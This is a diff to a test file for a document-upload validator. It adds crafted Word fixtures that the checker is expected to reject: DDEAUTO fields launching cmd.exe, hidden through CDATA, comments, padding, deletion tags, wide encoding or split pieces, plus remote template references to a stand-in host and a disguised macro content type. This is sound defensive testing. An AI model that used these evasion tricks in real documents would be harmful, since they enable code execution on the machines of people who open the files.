@@ -163,6 +163,54 @@ const documents: [name: string, bytes: Buffer, sentence: string][] = [
     field,
   ],
   [
+    'a template elsewhere behind an attribute of a stranger',
+    wordFile({
+      'word/_rels/settings.xml.rels': relationships([
+        'attachedTemplate',
+        'http://evil.example/macro.dotm" xmlns:x="urn:x" x:TargetMode="Internal',
+        'External',
+      ]),
+    }),
+    damaged,
+  ],
+  [
+    'a type of macros behind an attribute of a stranger',
+    wordFile({
+      '[Content_Types].xml': contentTypes(
+        mainType,
+        '<Override xmlns:x="urn:x" PartName="/word/image.bin" x:ContentType="image/png" ContentType="application/vnd.ms-office.vbaProject"/>',
+      ),
+    }),
+    damaged,
+  ],
+  [
+    'an instruction in CDATA',
+    instructed('<w:instrText><![CDATA[ DDEAUTO c:\\cmd.exe ]]></w:instrText>'),
+    field,
+  ],
+  [
+    'an instruction around a comment',
+    instructed('<w:instrText> DDE<!-- x -->AUTO c:\\cmd.exe </w:instrText>'),
+    field,
+  ],
+  [
+    'an instruction around CDATA',
+    instructed('<w:instrText> D<![CDATA[DE]]>AUTO c:\\cmd.exe </w:instrText>'),
+    field,
+  ],
+  [
+    'an instruction after much space',
+    instructed(
+      `<w:instrText>${' '.repeat(1200)}</w:instrText></w:r><w:r><w:instrText>DDEAUTO c:\\cmd.exe </w:instrText>`,
+    ),
+    field,
+  ],
+  [
+    'an instruction that a deletion hides',
+    instructed('<w:delInstrText> DDEAUTO c:\\cmd.exe </w:delInstrText>'),
+    field,
+  ],
+  [
     'a workbook',
     wordFile({
       '[Content_Types].xml': contentTypes(
@@ -186,6 +234,15 @@ const documents: [name: string, bytes: Buffer, sentence: string][] = [
   ],
 ];
 
+function instructed(inside: string): Buffer {
+  const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
+  return wordFile({
+    'word/document.xml': paragraphs(
+      `</w:t></w:r>${mark('begin')}<w:r>${inside}</w:r>${mark('end')}<w:r><w:t>`,
+    ),
+  });
+}
+
 function altered(): Buffer {
   const bytes = wordFile();
   bytes.writeUInt32LE(0, bytes.lastIndexOf('word/document.xml') - 46 + 16);
@@ -198,7 +255,25 @@ function ring(): Buffer {
   return bytes;
 }
 
+const old = (parts: Parameters<typeof oldWordFile>[2]) => oldWordFile(undefined, 0, parts);
+const elsewhere = 'The document is attached to a template elsewhere. Please detach it';
+
 const oldDocuments: [name: string, bytes: Buffer, sentence: string][] = [
+  ['a field that starts a program', old({ text: 'Text \u0013 DDEAUTO c:\\cmd.exe \u0015' }), field],
+  ['the same in wide letters', old({ text: Buffer.from('\u0013  ddeauto c:\\cmd.exe', 'utf16le') }), field],
+  [
+    'the same in pieces',
+    old({
+      text: 'AUTO c:\\cmd.exe \u0013 DDE',
+      pieces: [
+        [16, 5],
+        [0, 16],
+      ],
+    }),
+    field,
+  ],
+  ['a template on the web', old({ template: 'http://evil.example/macro' }), elsewhere],
+  ['a template on a share', old({ template: '\\\\evil.example\\share\\macro.dot' }), elsewhere],
   ['macros of Word 97', oldWordFile(['WordDocument', 'Macros', 'VBA']), macros],
   ['a password of Word 97', oldWordFile(['WordDocument'], 0x0100), locked],
   ['an old workbook', oldWordFile(['Workbook']), onlyWord],
@@ -376,9 +451,20 @@ describe('taken', () => {
     template = await json<AdminTemplate>(admin.get(`/api/admin/template?id=${template._id}`));
   });
 
+  test('a document with a page number', async () => {
+    const bytes = instructed('<w:instrText xml:space="preserve"> PAGE \\* MERGEFORMAT </w:instrText>');
+    expect((await send({ kind: 'document', bytes })).status).toBe(200);
+    template = await json<AdminTemplate>(admin.get(`/api/admin/template?id=${template._id}`));
+  });
+
   test('an old document', async () => {
     const file = { file_name: 'nda.doc', content_type: 'application/msword' };
-    const answer = await send({ kind: 'document', bytes: oldWordFile(), ...file });
+    const bytes = old({
+      text: 'See \u0013 PAGE \u0015 and the link, please',
+      pieces: [[0, 30]],
+      template: 'C:\\Templates\\Normal.dot',
+    });
+    const answer = await send({ kind: 'document', bytes, ...file });
     const changed = await json<AdminTemplate>(answer);
     expect(changed.versions[0]?.document_path).toMatch(/mutual-nda\.doc(&|$)/);
   });
